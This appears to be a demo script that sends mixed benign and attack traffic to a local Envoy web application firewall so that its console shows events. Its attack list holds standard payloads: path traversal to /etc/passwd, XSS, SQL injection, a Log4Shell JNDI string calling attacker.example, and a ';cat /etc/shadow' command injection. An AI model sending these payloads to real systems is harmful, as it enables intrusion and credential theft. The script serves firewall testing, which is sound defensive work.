#!/usr/bin/env python3
"""A little mixed traffic through the demo Envoy, so the console is not empty.

Benign browsing from a few clients, attacks of several kinds from a few others
(SQL injection, XSS, path traversal, a scanner, Log4Shell), a monitored host and
the /login rate limit. Clients are told apart by X-Forwarded-For: the demo
configuration trusts one proxy hop (`client_ip`), as behind a load balancer.

    python3 examples/demo/traffic.py [--target http://127.0.0.1:10000] [--rounds 3]
"""

import argparse
import http.client
import random
import sys
import urllib.parse

BENIGN_CLIENTS = ["198.51.100.10", "198.51.100.11", "198.51.100.12", "192.0.2.40"]
ATTACKERS = ["203.0.113.7", "203.0.113.66", "45.33.32.156"]

BENIGN = [
    ("GET", "/", None, {}),
    ("GET", "/version", None, {}),
    ("GET", "/search?q=" + urllib.parse.quote("red running shoes size 42"), None, {}),
    ("GET", "/products?page=2&sort=price", None, {}),
    ("POST", "/api/orders", '{"item":"book","qty":2,"note":"O\'Brien, 2nd floor"}', {"content-type": "application/json"}),
    ("GET", "/static/app.js", None, {"accept": "application/javascript"}),
]

ATTACKS = [
    ("GET", "/?file=../../etc/passwd", None, {}),
    ("GET", "/search?q=" + urllib.parse.quote("<script>alert(document.cookie)</script>"), None, {}),
    ("GET", "/items?id=" + urllib.parse.quote("1' UNION SELECT username, password FROM users--"), None, {}),
    ("POST", "/login", "user=admin' OR '1'='1' --&pass=x", {"content-type": "application/x-www-form-urlencoded"}),
    ("GET", "/", None, {"user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
    ("GET", "/api/lookup", None, {"x-api-version": "${jndi:ldap://attacker.example/a}"}),
    ("GET", "/cgi-bin/status?cmd=" + urllib.parse.quote(";cat /etc/shadow"), None, {}),
]


def send(target, method, path, body, headers, client, host=None):
    url = urllib.parse.urlsplit(target)
    conn = http.client.HTTPConnection(url.hostname, url.port or 80, timeout=5)
    # A name, not 127.0.0.1: CRS flags a numeric Host (920350) on every request.
    hdrs = {"host": host or "shop.localhost", "x-forwarded-for": client,
            "user-agent": "Mozilla/5.0 (demo traffic)"}
    hdrs.update(headers)
    try:
        conn.request(method, path, body=body.encode() if body else None, headers=hdrs)
        status = conn.getresponse().status
    except OSError as e:
        print(f"traffic: {method} {path}: {e}", file=sys.stderr)
        return None
    finally:
        conn.close()
    return status


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--target", default="http://127.0.0.1:10000")
    ap.add_argument("--rounds", type=int, default=3)
    args = ap.parse_args()
    rng = random.Random(7)
    seen = {}
    for _ in range(args.rounds):
        for client in BENIGN_CLIENTS:
            for req in rng.sample(BENIGN, 4):
                status = send(args.target, *req, client)
                seen[status] = seen.get(status, 0) + 1
        for client in ATTACKERS:
            for req in rng.sample(ATTACKS, 3):
                status = send(args.target, *req, client)
                seen[status] = seen.get(status, 0) + 1
        # The monitored host lets an attack through and reports it as monitored.
        status = send(args.target, *ATTACKS[0], ATTACKERS[0], host="monitor.localhost")
        seen[status] = seen.get(status, 0) + 1
    # POST /login: 5 per minute per client, then 429.
    for _ in range(7):
        status = send(args.target, "POST", "/login", "user=a&pass=b",
                      {"content-type": "application/x-www-form-urlencoded"}, BENIGN_CLIENTS[0])
        seen[status] = seen.get(status, 0) + 1
    summary = ", ".join(f"{n}× {s}" for s, n in sorted(seen.items(), key=lambda kv: str(kv[0])))
    print(f"traffic: sent {sum(seen.values())} requests ({summary})")
    return 0 if None not in seen else 1


if __name__ == "__main__":
    sys.exit(main())
